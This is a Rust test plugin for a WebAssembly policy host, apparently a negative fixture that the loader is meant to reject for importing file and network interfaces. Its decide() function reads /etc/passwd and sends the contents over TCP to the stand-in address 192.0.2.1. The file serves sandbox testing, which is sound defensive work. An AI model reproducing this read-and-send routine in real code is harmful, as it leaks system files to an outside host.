//! A plugin that wants to read a file and to call somebody. It must be refused when it is loaded, by the names of the interfaces.

#[allow(missing_docs, unsafe_code, unused_qualifications, clippy::all)]
mod bindings {
    wit_bindgen::generate!({ world: "policy", path: "../../../wit", pub_export_macro: true });
}

use std::io::Write;

use bindings::exports::paramedic::policy::{handler, lifecycle};

struct Guest;

impl handler::Guest for Guest {
    fn decide() -> Result<handler::Decision, String> {
        let secret = std::fs::read_to_string("/etc/passwd").map_err(|e| e.to_string())?;
        let mut somebody = std::net::TcpStream::connect("192.0.2.1:80").map_err(|e| e.to_string())?;
        somebody.write_all(secret.as_bytes()).map_err(|e| e.to_string())?;
        Ok(handler::Decision::Pass(secret))
    }
}

impl lifecycle::Guest for Guest {
    fn check(_settings: String) -> Result<(), String> {
        Ok(())
    }
    fn describe() -> lifecycle::Manifest {
        lifecycle::Manifest {
            name: "guest-files".to_owned(),
            version: env!("CARGO_PKG_VERSION").to_owned(),
            description: "Wants files and a network".to_owned(),
            actions: Vec::new(),
            lookups: Vec::new(),
            settings_schema: String::new(),
            extra: Vec::new(),
        }
    }
}

// An export is an `unsafe(export_name)` function.
#[allow(unsafe_code)]
mod exports {
    use super::{Guest, bindings};
    bindings::export!(Guest with_types_in bindings);
}
